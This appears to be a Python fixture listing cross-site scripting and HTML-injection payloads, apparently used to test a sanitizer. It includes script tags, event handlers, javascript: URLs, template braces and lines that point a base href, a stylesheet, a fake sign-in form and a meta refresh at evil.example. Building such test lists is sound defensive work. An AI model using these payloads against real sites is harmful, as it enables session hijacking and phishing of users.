"""What attackers write where a page could take it for HTML, a script, a style or an address."""

RUN = "pwned(1)"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"\"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"javascript:{RUN}",
    f" JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"[click](javascript:{RUN})",
    f"![x](x'onerror={RUN})",
    f"<a href=javascript:{RUN}>x</a>",
    f"${{{RUN}}}{{{{{RUN}}}}}#{{{RUN}}}",
    f"<base href=https://evil.example/><link rel=stylesheet href=//evil.example/{RUN}>",
    "<style>*{background:url(https://evil.example/pwned)}</style>",
    "<form action=https://evil.example/pwned><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
    f"__proto__<b>{RUN}</b>",
    f"\u202epwned<img/src/onerror={RUN}>\u2066",
)
